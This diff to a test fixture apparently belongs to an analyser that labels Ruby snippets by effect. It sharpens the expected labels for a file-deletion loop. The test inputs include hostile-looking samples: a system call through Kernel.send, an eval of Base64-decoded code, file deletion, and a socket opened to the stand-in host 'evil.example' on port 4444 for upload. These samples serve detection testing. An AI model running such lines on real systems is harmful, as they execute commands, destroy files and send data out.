@@ -24,7 +24,7 @@ programs("ruby", [
   ["require './lib'", ["unknown"]],
   ["Kernel.send(:system, 'id')", ["unknown"]],
   ["eval(Base64.decode64('dGVzdA=='))", ["unknown"]],
-  ["%w[a b].each { |f| File.delete(f) }", ["delete ?"]],
+  ["%w[a b].each { |f| File.delete(f) }", ["delete a", "delete b"]],
   ["TCPSocket.new('evil.example', 4444)", ["network evil.example upload"]],
   ["$stdin.each_line { |line| puts line.upcase if line =~ /x/ }", []],
   ["[1,2,3].map { |x| x * 2 }.each { |y| puts y }", []],
